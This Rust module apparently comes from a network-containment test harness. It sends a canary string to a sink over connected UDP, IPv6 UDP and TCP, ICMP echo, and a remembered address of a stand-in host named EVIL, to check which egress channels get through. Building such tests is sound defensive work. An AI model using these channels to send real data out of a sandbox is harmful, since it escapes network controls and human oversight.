//! What else the sender keeps over a moment: sockets of other sorts, and an address that it was once given.

use std::io::Write;
use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream, UdpSocket};
use std::os::fd::{AsRawFd, OwnedFd};
use std::time::Duration;

use nix::sys::socket::{MsgFlags, SockaddrIn, sendto};
use rustix::net::{AddressFamily, SocketType, ipproto};

use super::send;
use crate::catalogue::names::{EVIL, on_link};
use crate::fakenet::probe::echo_request;

/// The ports of the sink.
const UDP: u16 = 9999;
const TCP: u16 = 9000;
/// How long a connection may take.
const CONNECT: Duration = Duration::from_millis(100);

/// They. Each is opened when it is first wanted.
#[derive(Debug)]
pub struct Others {
    sink: Ipv4Addr,
    connected: Option<UdpSocket>,
    udp_six: Option<UdpSocket>,
    tcp_six: Option<TcpStream>,
    ping: Option<OwnedFd>,
    remembered: Option<SocketAddr>,
}

impl Others {
    /// Of nothing yet.
    pub fn new(sink: Ipv4Addr) -> Self {
        Self { sink, connected: None, udp_six: None, tcp_six: None, ping: None, remembered: None }
    }

    /// Sends once; false for a way that is not known. What fails is tried again: the sink tells what arrives.
    pub fn send(&mut self, way: &str, canary: &str) -> bool {
        let bytes = canary.as_bytes();
        match way {
            "connected" => {
                let open = || {
                    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).ok()?;
                    socket.connect((self.sink, UDP)).ok().map(|()| socket)
                };
                self.connected = self.connected.take().or_else(open);
                let _ = self.connected.as_ref().map(|socket| socket.send(bytes));
            }
            "udp6" => {
                let open = || UdpSocket::bind((Ipv6Addr::UNSPECIFIED, 0)).ok();
                self.udp_six = self.udp_six.take().or_else(open);
                let to = (on_link(self.sink), UDP);
                let _ = self.udp_six.as_ref().map(|socket| socket.send_to(bytes, to));
            }
            "tcp6" => {
                let to = (on_link(self.sink), TCP).into();
                let open = || TcpStream::connect_timeout(&to, CONNECT).ok();
                self.tcp_six = written(self.tcp_six.take().or_else(open), bytes);
            }
            "ping" => {
                let open =
                    || rustix::net::socket(AddressFamily::INET, SocketType::DGRAM, Some(ipproto::ICMP)).ok();
                self.ping = self.ping.take().or_else(open);
                let to = SockaddrIn::from(std::net::SocketAddrV4::new(self.sink, 0));
                let request = echo_request(bytes);
                let _ = self.ping.as_ref().map(|fd| sendto(fd.as_raw_fd(), &request, &to, MsgFlags::empty()));
            }
            "remembered" => {
                self.remembered = self.remembered.or_else(|| send::resolve(EVIL, TCP).ok());
                let stream = self.remembered.and_then(|to| TcpStream::connect_timeout(&to, CONNECT).ok());
                drop(written(stream, bytes));
            }
            _ => return false,
        }
        true
    }
}

/// What was written to stays, what could not be is gone.
fn written(stream: Option<TcpStream>, bytes: &[u8]) -> Option<TcpStream> {
    let mut stream = stream?;
    let _ = stream.set_write_timeout(Some(send::ANSWER));
    stream.write_all(bytes).ok().map(|()| stream)
}
